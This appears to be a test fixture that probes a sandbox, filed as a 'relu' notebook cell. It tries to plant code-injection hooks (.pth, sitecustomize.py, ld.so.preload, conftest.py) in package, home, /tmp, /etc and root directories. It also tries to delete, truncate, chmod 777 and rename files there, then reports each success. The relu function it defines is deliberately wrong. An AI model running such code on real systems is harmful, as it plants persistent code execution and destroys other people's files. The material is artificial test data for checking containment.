# Writes where Python or the shell would run it later, and over other people's files.
# ruff: noqa
# %% relu
import os

line = f"import os; os.environ['STOLEN'] = {OUT['marker']!r}\n"
folders = [
    *OUT["packages"],
    OUT["project"],
    OUT["home"],
    "/tmp",
    "/dev/shm",
    "/var/tmp",
    "/etc",
    "/",
    os.path.dirname(np.__file__),
]
names = [
    f"{OUT['marker']}.pth",
    "sitecustomize.py",
    "usercustomize.py",
    f"{OUT['marker']}.so",
    "ld.so.preload",
    "conftest.py",
]
for place in [*(f"{folder}/{name}" for folder in folders for name in names), *OUT["canaries"], np.__file__]:
    for act in (
        lambda p: open(p, "a").write(line),
        lambda p: os.remove(p),
        lambda p: os.rename(p, p + OUT["marker"]),
        lambda p: os.chmod(p, 0o777),
        lambda p: os.utime(p, (0, 0)),
        lambda p: os.truncate(p, 0),
        lambda p: os.mkfifo(p),
        lambda p: os.setxattr(p, "user.x", b"x"),
    ):
        try:
            act(place)
            print(OUT["success"], act.__code__.co_firstlineno, place)
        except OSError:
            pass


def relu(z):
    return np.abs(z)
